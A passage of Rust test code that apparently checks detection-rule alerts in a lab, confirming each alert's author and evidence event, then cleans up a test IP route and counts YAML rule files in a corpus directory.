        );
        assert_eq!(
            a["author"],
            author.as_str(),
            "{rel}: the alert shows the rule's author"
        );
        let detail = lab.alert(a["id"].as_i64().expect("id"));
        let ev = evidence(&detail);
        assert!(
            ev.iter().any(&of_action),
            "{rel}: the evidence is the action ({what}): {ev:?}"
        );
        eprintln!("{rel}: alert {} by {author}", a["id"]);
    }
    let _ = must(Command::new("ip").args(["route", "del", &format!("{addr}/32")]));
}

/// Recognises the evidence event of one action.
type EvidenceTest = Box<dyn Fn(&Value) -> bool>;

fn walk_yml(dir: &Path) -> usize {
    let mut n = 0;
    for e in std::fs::read_dir(dir).expect("corpus dir").flatten() {
        let p = e.path();
        if p.is_dir() {
            n += walk_yml(&p);
        } else if p.extension().is_some_and(|x| x == "yml") {
            n += 1;
        }
    }
    n
}
